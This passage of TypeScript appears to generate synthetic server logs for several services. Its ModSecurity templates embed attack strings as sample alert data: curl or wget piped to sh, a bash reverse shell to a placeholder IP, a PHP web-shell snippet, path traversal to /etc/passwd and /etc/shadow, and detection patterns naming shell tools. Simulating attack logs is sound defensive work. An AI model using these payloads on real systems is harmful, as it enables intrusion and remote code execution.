    t(2, (r) => `${bb(r)}adding change, who ${r.pick(BBWHO)}, ${r.int(1, 40)} files, rev=${r.hex(40)}, branch ${r.pick(['main', 'main', 'refs/pull/412/merge', 'feature/refunds', 'release-2.4'])}, repository ${r.pick(['https://github.com/shop/api.git', 'https://github.com/shop/api', 'git@github.com:shop/cli.git'])}, comments ${r.pick(BBMSG)}, category ${r.pick(['None', 'None', 'pull', 'push'])}, project ${r.pick(['shop/api', 'shop/cli', 'api'])}`),
    t(3, (r) => `${bb(r)}Updated status with "${r.pick(['pending', 'success', 'success', 'failure', 'error'])}" for ${r.pick(['shop/api', 'shop/api', 'shop/cli'])} at ${r.hex(40)}, context "buildbot/${r.pick(BBBUILDERS)}", issue ${r.next() < 0.6 ? 'None' : r.int(100, 900)}.`),
    t(2, (r) => `${bb(r)}Starting factory <twisted.web.client._HTTP11ClientFactory object at ${bbobj(r)}>`),
    t(2, (r) => `${bb(r)}Stopping factory <twisted.web.client._HTTP11ClientFactory object at ${bbobj(r)}>`),
    t(1.5, (r) => { const [w, ip] = bbw(r); return `${bb(r, bbbroker(r, ip))}Worker ${w} attaching from IPv4Address(type='TCP', host='${ip}', port=${port(r)})`; }),
    t(1.5, (r) => { const [w, ip] = bbw(r); return `${bb(r, bbbroker(r, ip))}Got workerinfo from '${w}'`; }),
    t(1.5, (r) => { const [, ip] = bbw(r); return `${bb(r, bbbroker(r, ip))}bot attached`; }),
    t(1.2, (r) => { const [w, ip] = bbw(r); return `${bb(r, bbbroker(r, ip))}Worker.detached(${w})`; }),
    t(0.3, (r) => `${bb(r)}Unhandled error in Deferred:`),
    t(0.15, (r) => `${bb(r)}Loading configuration from '${r.pick(['/var/lib/buildbot/master.cfg', '/srv/buildbot/master/master.cfg'])}'`),
    t(0.15, (r) => `${bb(r)}configuration update started`),
    t(0.15, (r) => `${bb(r)}configuration update complete`),
    t(0.1, (r) => `${bb(r)}BuildMaster is running`),
    t(0.1, (r) => `${bb(r)}twistd 24.3.0 (/usr/bin/python3 3.11.2) starting up.`),
    t(0.1, (r) => `${bb(r)}reactor class: twisted.internet.epollreactor.EPollReactor.`),
    t(0.1, (r) => `${bb(r)}${r.next() < 0.5 ? 'PBServerFactory starting on 9989' : 'Site starting on 8010'}`),
    t(0.1, (r) => `${bb(r)}Received SIGTERM, shutting down.`),
    t(0.1, (r) => `${bb(r)}Main loop terminated.`),
  ] },
  { name: 'modsecurity', templates: [
    t(10, (r) => { const { pre } = msw(r, 'security2:error', true); const ip = `${r.int(1, 223)}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`; return `${pre}Warning. Pattern match "^[\\\\d.:]+$" at REQUEST_HEADERS:Host.${mstail(r, 'REQUEST-920-PROTOCOL-ENFORCEMENT.conf', 736, 920350, 'Host header is a numeric IP address', ip, 'WARNING', [...MSBASE, 'attack-protocol', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/210/272', 'PCI/6.5.10'], msuri(r))}`; }),
    t(4, (r) => {
      const { pre } = msw(r, 'security2:error', true);
      const x = r.next();
      if (x < 0.5) { const u = r.pick(['/cgi-bin/../../../../etc/passwd', '/static/../../../../etc/shadow', '/download?file=../../../../proc/self/environ']); return `${pre}Warning. Pattern match "(?:^|[\\\\\\\\/])\\\\.{2,3}[\\\\\\\\/]" at REQUEST_URI.${mstail(r, 'REQUEST-930-APPLICATION-ATTACK-LFI.conf', 71, 930110, 'Path Traversal Attack (/../)', `Matched Data: ${r.pick(['/../', '../'])} found within REQUEST_URI: ${u}`, 'CRITICAL', [...MSBASE, 'attack-lfi', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/255/153/126'], u.split('?')[0])}`; }
      if (x < 0.8) { const v = `ARGS:${r.pick(['cmd', 'host', 'ip'])}`; const [m, val] = r.pick([['; curl', '127.0.0.1; curl http://203.0.113.66/x.sh|sh'], ['|wget', '8.8.8.8|wget -qO- http://198.51.100.7/m'], ['$(bash', '$(bash -i >& /dev/tcp/198.51.100.7/4444 0>&1)']]); return `${pre}Warning. Pattern match "(?i)(?:[\\\\s;|&\`]|\\\\$\\\\(|\\\\{)\\\\s*(?:wget|curl|nc|bash|sh)\\\\b" at ${v}.${mstail(r, 'REQUEST-932-APPLICATION-ATTACK-RCE.conf', 84, 932100, 'Remote Command Execution: Unix Command Injection', `Matched Data: ${m} found within ${v}: ${val}`, 'CRITICAL', [...MSBASE, 'attack-rce', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/152/248/88'], r.pick(['/cgi-bin/luci', '/diag/ping.php', '/api/v1/tools/ping']))}`; }
      const v = `ARGS:${r.pick(['content', 'page'])}`; return `${pre}Warning. Pattern match "(?i)<\\\\?(?:=|php)?\\\\s+" at ${v}.${mstail(r, 'REQUEST-933-APPLICATION-ATTACK-PHP.conf', 92, 933100, 'PHP Injection Attack: PHP Open Tag Found', `Matched Data: <?php  found within ${v}: <?php system($_GET[c]); ?>`, 'CRITICAL', ['language-php', 'platform-multi', 'attack-injection-php', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/152/242'], r.pick(['/index.php', '/wp-admin/admin-ajax.php', '/contact']))}`;
    }),
    t(5, (r) => { const { pre } = msw(r, 'security2:error', true); const [name, ua] = r.pick(MSUA); return `${pre}Warning. Matched phrase "${name}" at REQUEST_HEADERS:User-Agent.${mstail(r, 'REQUEST-913-SCANNER-DETECTION.conf', 34, 913100, 'Found User-Agent associated with security scanner', `Matched Data: ${name} found within REQUEST_HEADERS:User-Agent: ${ua}`, 'CRITICAL', [...MSBASE, 'attack-reputation-scanner', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/118/224/541/310', 'PCI/6.2.4'], msuri(r))}`; }),
    t(2, (r) => { const { pre } = msw(r, 'security2:error', true); const f = r.pick(['.env', '.git/', 'wp-config.php', '.htpasswd', 'web.config']); return `${pre}Warning. Matched phrase "${f}" at REQUEST_FILENAME.${mstail(r, 'REQUEST-930-APPLICATION-ATTACK-LFI.conf', 121, 930130, 'Restricted File Access Attempt', `Matched Data: ${f} found within REQUEST_FILENAME: /${f}`, 'CRITICAL', [...MSBASE, 'attack-lfi', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/255/153/126', 'PCI/6.5.4'], `/${f}`)}`; }),
    t(2.5, (r) => { const { pre } = msw(r, 'security2:error', true); const [fp, arg, val] = r.pick(MSSQLI); return `${pre}Warning. detected SQLi using libinjection with fingerprint '${fp}'${mstail(r, 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf', 65, 942100, 'SQL Injection Attack Detected via libinjection', `Matched Data: ${fp} found within ARGS:${arg}: ${val}`, 'CRITICAL', [...MSBASE, 'attack-sqli', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/152/248/66', 'PCI/6.5.2'], r.pick(['/search', '/product', '/login', '/index.php']))}`; }),
    t(1.5, (r) => { const { pre } = msw(r, 'security2:error', true); const arg = r.pick(['q', 'q', 'name', 'redirect']); return `${pre}Warning. detected XSS using libinjection.${mstail(r, 'REQUEST-941-APPLICATION-ATTACK-XSS.conf', 55, 941100, 'XSS Attack Detected via libinjection', `Matched Data: XSS data found within ARGS:${arg}: ${r.pick(MSXSS)}`, 'CRITICAL', [...MSBASE, 'attack-xss', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/152/242'], r.pick(['/search', '/comment', '/login']))}`; }),
    t(6, (r) => { const { pre } = msw(r, 'security2:error', true); const s = msscore(r); if (r.next() < 0.4) return `${pre}Warning. Operator GE matched 5 at TX:anomaly_score.${mstail(r, 'REQUEST-949-BLOCKING-EVALUATION.conf', 93, 949110, `Inbound Anomaly Score Exceeded (Total Score: ${s})`, null, 'CRITICAL', [...MSBASE, 'attack-generic'], msuri(r))}`; const sq = r.pick([0, 0, 5, 10]); return `${pre}Warning. Operator GE matched 5 at TX:inbound_anomaly_score.${mstail(r, 'RESPONSE-980-CORRELATION.conf', 92, 980130, `Inbound Anomaly Score Exceeded (Total Inbound Score: ${s} - SQLI=${sq},XSS=${r.pick([0, 0, 5])},RFI=0,LFI=${r.pick([0, 0, 5])},RCE=${r.pick([0, 0, 5])},PHPI=0,HTTP=0,SESS=0): individual paranoia level scores: ${s}, 0, 0, 0`, null, null, ['event-correlation'], msuri(r))}`; }),
    t(7, (r) => { const { pre } = msw(r, 'security2:error', true); return `${pre}Access denied with code 403 (phase 2). Operator GE matched 5 at TX:anomaly_score.${mstail(r, 'REQUEST-949-BLOCKING-EVALUATION.conf', 93, 949110, `Inbound Anomaly Score Exceeded (Total Score: ${msscore(r)})`, null, 'CRITICAL', [...MSBASE, 'attack-generic'], msuri(r))}`; }),
    t(2, (r) => { const { pre } = msw(r, 'security2:error', true); const [id, line, m, sev] = r.pick([[920300, 1311, 'Request Missing an Accept Header', 'NOTICE'], [920320, 1413, 'Missing User Agent Header', 'NOTICE'], [920280, 1247, 'Request Missing a Host Header', 'WARNING']] as const); return `${pre}Warning. Operator EQ matched 0 at REQUEST_HEADERS.${mstail(r, 'REQUEST-920-PROTOCOL-ENFORCEMENT.conf', line, id, m, null, sev, [...MSBASE, 'attack-protocol', `paranoia-level/${id === 920280 ? 1 : 2}`, 'OWASP_CRS', 'capec/1000/210/272', 'PCI/6.5.10'], msuri(r))}`; }),
    t(0.8, (r) => { const { pre } = msw(r, 'security2:error', true); const v = r.pick(['ARGS:q', 'REQUEST_URI', 'ARGS:file', 'REQUEST_HEADERS:Referer']); return `${pre}Warning. Found ${r.int(1, 4)} byte(s) in ${v} outside range: 1-255.${mstail(r, 'REQUEST-920-PROTOCOL-ENFORCEMENT.conf', 557, 920270, 'Invalid character in request (null character)', `${v}=${r.pick(['/etc/passwd\\\\x00.jpg', 'abc\\\\x00', '%00'])}`, 'CRITICAL', [...MSBASE, 'attack-protocol', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/210/272'], msuri(r))}`; }),
    t(1, (r) => { const { pre } = msw(r, 'security2:error', true); return `${pre}Warning. Match of "within |GET HEAD POST OPTIONS|" against "REQUEST_METHOD" required.${mstail(r, 'REQUEST-911-METHOD-ENFORCEMENT.conf', 27, 911100, 'Method is not allowed by policy', r.pick(['PROPFIND', 'PUT', 'DELETE', 'TRACE', 'CONNECT', 'DEBUG']), 'CRITICAL', [...MSBASE, 'attack-generic', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/210/272/220/274', 'PCI/12.1'], msuri(r))}`; }),
    t(0.4, (r) => { const { pre } = msw(r, 'security2:error', true); return `${pre}Request body (Content-Length) is larger than the configured limit (13107200). [hostname "${skew(r, MSHOSTS, 0.4)}"] [uri "${r.pick(['/upload', '/api/v1/media', '/wp-admin/async-upload.php'])}"] [unique_id "${b64url(r, 27)}"]`; }),
    t(0.15, (r) => `${msw(r, 'security2:notice', false).pre.replace(/ ModSecurity: $/, ' ')}ModSecurity for Apache/2.9.7 (http://www.modsecurity.org/) configured.`),
    t(0.15, (r) => `${msw(r, 'security2:notice', false).pre}APR compiled version="1.7.2"; loaded version="1.7.2"`),
    t(0.15, (r) => `${msw(r, 'security2:notice', false).pre}PCRE2 compiled version="10.42 "; loaded version="10.42 2022-12-11"`),
    t(0.15, (r) => `${msw(r, 'security2:notice', false).pre}LUA compiled version="Lua 5.1"`),
    t(0.15, (r) => `${msw(r, 'security2:notice', false).pre}YAJL compiled version="2.1.0"`),
    t(0.15, (r) => `${msw(r, 'security2:notice', false).pre}LIBXML compiled version="2.9.14"`),
    t(0.15, (r) => `${msw(r, 'security2:notice', false).pre}Status engine is currently disabled, enable it by set SecStatusEngine to On.`),
  ] },
  { name: 'pgbackrest', templates: [
    t(10, (r) => { const x = r.next(); const opts = x < 0.8 ? `[pg_wal/${pbwal(r)}] --archive-async --compress-type=zst ${pbexec(r)} --log-level-console=info --log-level-file=detail ${PBPG} --process-max=2 ${PBREPO} --spool-path=/var/spool/pgbackrest --stanza=main` : x < 0.9 ? `[${r.next() < 0.5 ? pbwal(r) : '00000002.history'}, pg_wal/RECOVERYXLOG] --archive-async --compress-type=zst ${pbexec(r)} --log-level-console=info --log-level-file=detail ${PBPG} --process-max=2 ${PBREPO} --spool-path=/var/spool/pgbackrest --stanza=main` : x < 0.95 ? `--compress-type=zst ${pbexec(r)} --log-level-console=info --log-level-file=detail ${PBPG} --pg1-port=5432 --process-max=4 ${PBREPO} --repo1-retention-full=2 --stanza=main --start-fast --type=${r.pick(['incr', 'incr', 'diff', 'full'])}` : `${pbexec(r)} --log-level-console=info --log-level-file=detail ${PBREPO} --repo1-retention-full=2 --stanza=main`; const cmd = x < 0.8 ? 'archive-push' : x < 0.9 ? 'archive-get' : x < 0.95 ? 'backup' : 'expire'; return `${pbl(r, 0, 'INFO')}${cmd} command begin ${PBVER}: ${opts}`; }),
    t(10, (r) => { const x = r.next(); const bk = x >= 0.9 && x < 0.95; return `${pbl(r, 0, 'INFO')}${x < 0.8 ? 'archive-push' : x < 0.9 ? 'archive-get' : bk ? 'backup' : 'expire'} command end: completed successfully (${bk ? r.int(20000, 9000000) : r.int(20, 900)}ms)`; }),
    t(2, (r) => `${pbl(r, 0, 'INFO')}pushed WAL file '${pbwal(r)}' to the archive`),
    t(7, (r) => `${pbl(r, 0, 'INFO')}pushed WAL file '${pbwal(r)}' to the archive asynchronously`),
    t(0.6, (r) => `${pbl(r, 0, 'INFO')}found ${pbwal(r)} in the repo1: 16-1 archive`),
    t(0.4, (r) => `${pbl(r, 0, 'INFO')}unable to find ${r.next() < 0.6 ? `0000000${r.int(2, 4)}.history` : pbwal(r)} in the archive`),
    t(0.2, (r) => `${pbl(r, 0, 'ERROR')}[082]: WAL segment ${pbwal(r)} was not archived before the ${r.pick([60000, 60000, 120000])}ms timeout`),
    t(20, (r) => `${pbl(r, r.int(1, 4), 'DETAIL')}backup file ${pbfile(r).join(' (')}, ${r.float(0, 99.99, 2)}%) checksum ${r.hex(40)}`),
    t(6, (r) => `${pbl(r, r.int(1, 4), 'DETAIL')}match file from prior backup ${pbfile(r).join(' (')}, ${r.float(0, 99.99, 2)}%) checksum ${r.hex(40)}`),
    t(0.5, (r) => `${pbl(r, r.int(1, 4), 'DETAIL')}skip file removed by database ${PBDATA}/${r.pick(['base/16384', 'pg_stat_tmp', 'base/pgsql_tmp'])}/${r.pick(['pgss_query_texts.stat', `pgsql_tmp${r.int(1000, 99999)}.${r.int(0, 9)}`, String(r.int(10000, 99999))])}`),
    t(5, (r) => `${pbl(r, 0, 'DETAIL')}reference pg_data/base/${r.pick([16384, 16384, 16385, 1, 5])}/${r.int(1000, 99999)} to ${pblabel(r).split('_')[0]}`),
    t(0.2, (r) => `${pbl(r, 0, 'INFO')}last backup label = ${pblabel(r)}, version = ${PBVER}`),
    t(0.2, (r) => `${pbl(r, 0, 'INFO')}execute non-exclusive backup start: backup begins after the requested immediate checkpoint completes`),
    t(0.2, (r) => { const [w, l] = pbwlsn(r); return `${pbl(r, 0, 'INFO')}backup start archive = ${w}, lsn = ${l}`; }),
    t(0.2, (r) => `${pbl(r, 0, 'INFO')}check archive for prior segment ${pbwal(r)}`),
    t(0.2, (r) => `${pbl(r, 0, 'INFO')}execute non-exclusive backup stop and wait for all WAL segments to archive`),
    t(0.2, (r) => { const [w, l] = pbwlsn(r); return `${pbl(r, 0, 'INFO')}backup stop archive = ${w}, lsn = ${l}`; }),
    t(0.2, (r) => `${pbl(r, 0, 'DETAIL')}wrote 'backup_label' file returned from backup stop function`),
    t(0.2, (r) => { const w = pbwal(r); return `${pbl(r, 0, 'INFO')}check archive for segment(s) ${w}:${w}`; }),
    t(0.2, (r) => `${pbl(r, 0, 'INFO')}new backup label = ${pblabel(r)}`),
    t(0.2, (r) => `${pbl(r, 0, 'INFO')}${r.pick(['incr', 'incr', 'diff', 'full'])} backup size = ${pbsize(r, true)}, file total = ${r.int(1200, 9000)}`),
    t(0.17, (r) => { const a = pblabel(r).split('_')[0]; return `${pbl(r, 0, 'INFO')}repo1: expire full backup set ${a}${Array.from({ length: r.int(0, 6) }, (_, i) => `, ${a}_${a.slice(0, 6)}${d2(Math.min(28, Number(a.slice(6, 8)) + i + 1))}-010002I`).join('')}`; }),
    t(0.2, (r) => { const a = pblabel(r).split('_')[0]; return `${pbl(r, 0, 'INFO')}repo1: remove expired backup ${r.next() < 0.7 ? `${a}_${a.slice(0, 6)}${d2(Math.min(28, Number(a.slice(6, 8)) + 1))}-010002I` : a}`; }),
    t(0.17, (r) => { const a = r.int(0, 120); const seg = (n: number) => `000000010000001${n < 256 ? '9' : 'A'}000000${(n % 256).toString(16).toUpperCase().padStart(2, '0')}`; return `${pbl(r, 0, 'INFO')}repo1: 16-1 remove archive, start = ${seg(a)}, stop = ${seg(a + r.int(1, 300))}`; }),
  ] },
  { name: 'mariadb-galera', templates: [
    t(4, (r) => { const [a, b] = r.pick(MDSHIFT); return `${md(r, 'Note')}WSREP: Shifting ${a} -> ${b} (TO: ${mdseq(r)})`; }),
    t(3, (r) => { const [a, b] = r.pick(MDSTATUS); return `${md(r, 'Note')}WSREP: Server status change ${a} -> ${b}`; }),
    t(0.8, (r) => { const n = mdn(r); const o = mdother(r, n.i); return `${md(r, 'Note')}WSREP: Member ${n.i}.0 (${n.name}) requested state transfer from '${r.next() < 0.8 ? '*any*' : o.name}'. Selected ${o.j}.0 (${o.name})(SYNCED) as donor.`; }),
    t(0.8, (r) => { const n = mdn(r); const o = mdother(r, n.i); return `${md(r, 'Note')}WSREP: ${n.i}.0 (${n.name}): State transfer to ${o.j}.0 (${o.name}) complete.`; }),
    t(0.8, (r) => { const n = mdn(r); const o = mdother(r, n.i); return `${md(r, 'Note')}WSREP: ${n.i}.0 (${n.name}): State transfer from ${o.j}.0 (${o.name}) complete.`; }),
    t(2, (r) => { const n = mdn(r); return `${md(r, 'Note')}WSREP: Member ${n.i}.0 (${n.name}) synced with group.`; }),
    t(1.5, (r) => `${md(r, 'Note')}WSREP: Server ${mdn(r).name} synced with group`),
    t(1.5, (r) => { const m = r.pick([3, 3, 3, 2, 1]); return `${md(r, 'Note')}WSREP: New COMPONENT: primary = ${m > 1 || r.next() < 0.5 ? 'yes' : 'no'}, bootstrap = no, my_idx = ${r.int(0, m - 1)}, memb_num = ${m}`; }),
    t(1.5, (r) => { const f = r.pick([16, 16, 23, 28, 100]); return `${md(r, 'Note')}WSREP: Flow-control interval: [${f}, ${f}]`; }),
    t(1.5, (r) => { const o = mdn(r); return `${md(r, 'Note')}WSREP: declaring ${o.u} at tcp://${o.ip}:4567 stable`; }),
    t(1, (r) => { const n = mdn(r); const o = mdother(r, n.i); return `${md(r, 'Note')}WSREP: (${n.u}, 'tcp://0.0.0.0:4567') turning message relay requesting on, nonlive peers: tcp://${o.ip}:4567`; }),
    t(1.5, (r) => { const n = mdn(r); const o = mdother(r, n.i); return `${md(r, 'Note')}WSREP: (${n.u}, 'tcp://0.0.0.0:4567') reconnecting to ${o.u} (tcp://${o.ip}:4567), attempt ${r.int(0, 120)}`; }),
    t(1, (r) => { const n = mdn(r); const o = mdother(r, n.i); return `${md(r, 'Note')}WSREP: (${n.u}, 'tcp://0.0.0.0:4567') connection established to ${o.u} tcp://${o.ip}:4567`; }),
    t(1, (r) => { const n = mdn(r); const o = mdother(r, n.i); return `${md(r, 'Note')}WSREP: evs::proto(${n.u}, ${r.next() < 0.7 ? 'OPERATIONAL' : 'GATHER'}, view_id(REG,${n.u},${r.int(10, 400)})) suspecting node: ${o.u}`; }),
    t(0.8, (r) => `${md(r, 'Warning')}WSREP: last inactive check more than PT1.5S (3*evs.inactive_check_period) ago (PT${r.float(1.5, 30, 4)}S), skipping check`),
    t(10, (r) => { const id = r.int(10000, 9000000); return `${md(r, 'Warning', id)}Aborted connection ${id} to db: '${r.pick(['shop', 'shop', 'reporting', 'unconnected'])}' user: '${r.pick(MDUSERS)}' host: '${mdclient(r)}' (${r.next() < 0.7 ? 'Got an error reading communication packets' : r.pick(['Got timeout reading communication packets', 'Got an error writing communication packets'])})`; }),
    t(3, (r) => { const id = r.int(10000, 9000000); return `${md(r, 'Warning', id)}Access denied for user '${r.pick(['shop_app', 'root', 'admin', 'reporting', 'monitor'])}'@'${mdclient(r)}' (using password: ${r.next() < 0.85 ? 'YES' : 'NO'})`; }),
    t(1, (r) => `${md(r, 'Note')}WSREP: Created page /var/lib/mysql/gcache.page.${pad(r.int(0, 90), 6)} of size ${r.pick([134217728, 134217728, 268435456])} bytes`),
    t(1, (r) => `${md(r, 'Note')}WSREP: Deleted page /var/lib/mysql/gcache.page.${pad(r.int(0, 90), 6)}`),
    t(0.4, (r) => { const a = mdseq(r); return `${md(r, 'Note')}WSREP: async IST sender starting to serve tcp://${mdn(r).ip}:4568 sending ${a}-${a + r.int(1, 90000)}, preload starts from ${a}`; }),
    t(0.5, (r) => `${md(r, 'Note')}WSREP: Provider paused at ${MDGROUP}:${mdseq(r)} (${r.int(1, 900)})`),
    t(0.5, (r) => `${md(r, 'Note')}WSREP: Provider resumed.`),
    t(0.1, (r) => { const { d } = day(r); return `${md(r, 'Note')}InnoDB: Buffer pool(s) load completed at 26${r.next() < 0.8 ? 12 : 11}${d2(d)} ${hms(r)}`; }),
  ] },
  { name: 'windows-dns-debug', templates: [
    t(30, (r) => { const [qt, n] = wdq(r); return wdpk(r, r.next() < 0.95 ? 'UDP' : 'TCP', 'Rcv', wdclient(r), r.hex(4), false, 'Q', 0x0100, qt, n); }),
    t(30, (r) => { const [qt, n, int] = wdq(r); const x = r.next(); const v = int ? (x < 0.85 ? 0x8580 : 0x8583) : x < 0.9 ? 0x8180 : x < 0.97 ? 0x8183 : 0x8182; return wdpk(r, r.next() < 0.95 ? 'UDP' : 'TCP', 'Snd', wdclient(r), r.hex(4), true, 'Q', v, qt, n); }),
    t(8, (r) => { const [qt, n] = skew(r, WDEXT, 0.25); return wdpk(r, 'UDP', 'Snd', skew(r, WDFWD), r.hex(4), false, 'Q', 0x0100, qt, n); }),
    t(8, (r) => { const [qt, n] = skew(r, WDEXT, 0.25); const x = r.next(); return wdpk(r, 'UDP', 'Rcv', skew(r, WDFWD), r.hex(4), true, 'Q', x < 0.93 ? 0x8180 : x < 0.98 ? 0x8183 : 0x8182, qt, n); }),
    t(1.5, (r) => wdpk(r, r.next() < 0.5 ? 'UDP' : 'TCP', 'Rcv', wdclient(r), r.hex(4), false, 'U', 0x2800, 'SOA', r.next() < 0.8 ? 'corp.example.com' : '0.10.in-addr.arpa')),
    t(1.5, (r) => wdpk(r, r.next() < 0.5 ? 'UDP' : 'TCP', 'Snd', wdclient(r), r.hex(4), true, 'U', r.next() < 0.85 ? 0xa800 : 0xa805, 'SOA', r.next() < 0.8 ? 'corp.example.com' : '0.10.in-addr.arpa')),
    t(0.4, (r) => wdpk(r, 'UDP', 'Snd', r.pick(WDSEC), r.hex(4), false, 'N', 0x2400, 'SOA', r.next() < 0.8 ? 'corp.example.com' : '0.10.in-addr.arpa')),
    t(0.4, (r) => wdpk(r, 'UDP', 'Rcv', r.pick(WDSEC), r.hex(4), true, 'N', 0xa400, 'SOA', r.next() < 0.8 ? 'corp.example.com' : '0.10.in-addr.arpa')),
    t(0.3, (r) => wdpk(r, 'UDP', 'Rcv', '10.0.0.11', r.hex(4), false, 'N', 0x2400, 'SOA', r.pick(['partner.example.net', 'lab.example.com']))),
    t(0.3, (r) => wdpk(r, 'UDP', 'Snd', '10.0.0.11', r.hex(4), true, 'N', 0xa400, 'SOA', r.pick(['partner.example.net', 'lab.example.com']))),
    t(0.3, (r) => `DNS Server log file creation at ${wdnsdt(r)}`),
    t(0.3, (r) => `Log file wrap at ${wdnsdt(r)}`),
  ] },
  { name: 'huawei-vrp', templates: [
    t(6, (r) => { const h = hw(r, 'IFNET', 4, 'LINK_STATE'); return `${h.out}The line protocol ${r.next() < 0.85 ? 'IP' : 'IPv6'} on the interface ${h.fam === 's' && r.next() < 0.5 ? `Vlanif${r.int(10, 400)}` : hwif(r, h.fam)} has entered the ${r.next() < 0.5 ? 'UP' : 'DOWN'} state.`; }),
    t(2, (r) => { const h = hw(r, 'IFNET', 2, 'linkDown_active', 'l', 'ce'); const i = hwif(r, 'ce'); const adm = r.next() < 0.2; return `${h.out}The interface status changes. (ifName=${i}, AdminStatus=${adm ? 'DOWN' : 'UP'}, OperStatus=DOWN, Reason=${adm ? 'The interface is shut down' : r.pick(['The physical link is down', 'The physical link is down', 'The main interface is down'])}, mainIfname=${i})`; }),
    t(2, (r) => { const h = hw(r, 'IFNET', 2, 'linkDown_clear', 'l', 'ce'); const i = hwif(r, 'ce'); return `${h.out}The interface status changes. (ifName=${i}, AdminStatus=UP, OperStatus=UP, Reason=The interface is up, mainIfname=${i})`; }),
    t(4, (r) => { const h = hw(r, 'IFPDT', 4, 'IF_STATE', 'l', 's'); return `${h.out}Interface ${hwif(r, 's')} has turned into ${r.next() < 0.5 ? 'UP' : 'DOWN'} state.`; }),
    t(8, (r) => { const h = hw(r, 'SHELL', 5, 'CMDRECORD', 's'); const vt = r.next() < 0.9; return `${h.out}Recorded command information. (Task=${vt ? `VT${r.int(0, 4)}` : 'CO0'}, Ip=${vt ? hwadm(r) : '**'}, VpnName=, User=${vt ? r.pick(HWUSERS) : '**'}, AuthenticationMethod="${vt ? r.pick(['Local-user', 'Local-user', 'RADIUS']) : 'Null'}", Command="${r.pick(HWCMDS).replace(/port default vlan \d+/, `port default vlan ${r.int(10, 400)}`)}", Result=${r.next() < 0.95 ? 'Success' : 'Failure'})`; }),
    t(2, (r) => { const h = hw(r, 'SSH', 5, 'SSH_USER_LOGIN', 's'); return `${h.out}The SSH user succeeded in logging in. (ServiceType=stelnet, UserName=${r.pick(HWUSERS)}, UserAddress=${hwadm(r)}, LocalAddress=${hwmgmt(r)}, VPNInstanceName=${r.next() < 0.6 ? '_public_' : 'MGMT'})`; }),
    t(3, (r) => { const h = hw(r, 'SSH', 5, 'SSH_USER_LOGIN_FAIL', 's'); return `${h.out}The SSH user failed to login. (ServiceType=stelnet, FailedReason=${r.pick(['Password authentication failed', 'Password authentication failed', 'The user name or password is incorrect', 'Authentication timed out'])}, UserName=${r.pick(['admin', 'root', 'netadmin', 'huawei', 'test', 'ubnt'])}, UserAddress=${r.next() < 0.4 ? hwadm(r) : r.ip()}, LocalAddress=${hwmgmt(r)}, VPNInstanceName=_public_)`; }),
    t(2, (r) => { const h = hw(r, 'SSH', 5, 'SSH_USER_LOGOUT', 's'); return `${h.out}The SSH user logged out. (ServiceType=stelnet, LogoutReason=${r.pick(['User logout', 'Idle timeout', 'Connection closed by peer'])}, UserName=${r.pick(HWUSERS)}, UserAddress=${hwadm(r)}, LocalAddress=${hwmgmt(r)}, VPNInstanceName=${r.next() < 0.6 ? '_public_' : 'MGMT'})`; }),
    t(3, (r) => { const h = hw(r, 'OSPF', 6, 'NBR_CHANGE_E'); const [ev, a, b] = r.pick(HWOSPF); return `${h.out}Neighbor changes event: neighbor status changed. (ProcessId=${r.pick([1, 1, 100])}, NeighborAddress=10.255.${r.int(0, 3)}.${r.int(1, 40)}, NeighborEvent=${ev}, NeighborPreviousState=${a}, NeighborCurrentState=${b})`; }),
    t(0.6, (r) => { const h = hw(r, 'OSPF', 3, 'NBR_DOWN_REASON'); return `${h.out}Neighbor state left full or changed to Down. (ProcessId=${r.pick([1, 1, 100])}, NeighborRouterId=10.255.${r.int(0, 3)}.${r.int(1, 40)}, NeighborAreaId=${r.pick(['0.0.0.0', '0.0.0.0', '0.0.0.10'])}, NeighborInterface=${h.fam === 'ce' ? hwif(r, 'ce') : `Vlanif${r.int(10, 400)}`}, NeighborDownImmediate reason=${r.pick(['Neighbor Down Due to Inactivity', 'Neighbor Down Due to Kill Neighbor', 'Neighbor Down Due to 1-Way Hello'])}, NeighborDownPrimeReason=${r.pick(['Interface Parameter Mismatch', 'Physical Interface State Change', 'Hello Not Seen', 'Interface Down'])}, CpuUsage=${r.int(3, 60)}%)`; }),
    t(1.5, (r) => { const h = hw(r, 'MSTP', 6, 'SET_PORT_FORWARDING'); return `${h.out}In MSTP process 0 instance ${r.next() < 0.8 ? 0 : r.int(1, 4)}, MSTP set port ${hwif(r, h.fam)} state as forwarding.`; }),
    t(1.5, (r) => { const h = hw(r, 'MSTP', 6, 'SET_PORT_DISCARDING'); return `${h.out}In MSTP process 0 instance ${r.next() < 0.8 ? 0 : r.int(1, 4)}, MSTP set port ${hwif(r, h.fam)} state as discarding.`; }),
    t(1, (r) => { const h = hw(r, 'L2IFPPI', 4, 'MFLPVLANALARM', 'l', 's'); return `${h.out}MAC move detected, VlanId = ${r.int(10, 400)}, MacAddress = ${hwmac(r)}, Original-Port = ${hwif(r, 's')}, Flapping port = ${hwif(r, 's')}. Please check the network accessed to flapping port.`; }),
    t(1, (r) => { const h = hw(r, 'INFO', 4, 'SUPPRESS_LOG'); const [mod, alias] = r.pick([['IFNET', 'LINK_STATE'], ['SHELL', 'CMDRECORD'], ['SSH', 'SSH_USER_LOGIN_FAIL'], ['MSTP', 'SET_PORT_FORWARDING']]); return `${h.out}Last message repeated ${r.int(1, 90)} times. (InfoID=${r.int(1000000, 9999999)}, ModuleName=${mod}, InfoAlias=${alias})`; }),
    t(0.3, (r) => `${hw(r, 'NTP', 4, 'SOURCE_LOST').out}System synchronization source lost.`),
  ] },
  { name: 'vaultwarden', templates: [
    t(18, (r) => { const [, p] = skew(r, VWGET, 0.3); return `${vw(r, 'request', 'INFO')}GET ${p(r)}`; }),
    t(18, (r) => { const [route, p, st] = skew(r, VWGET, 0.3); return `${vw(r, 'response', 'INFO')}(${route}) GET ${p(r)} => ${r.next() < 0.97 ? st : r.pick(['404 Not Found', '401 Unauthorized'])}`; }),
    t(4, (r) => { const [, p] = r.pick(VWPOST); return `${vw(r, 'request', 'INFO')}POST ${p(r)}`; }),
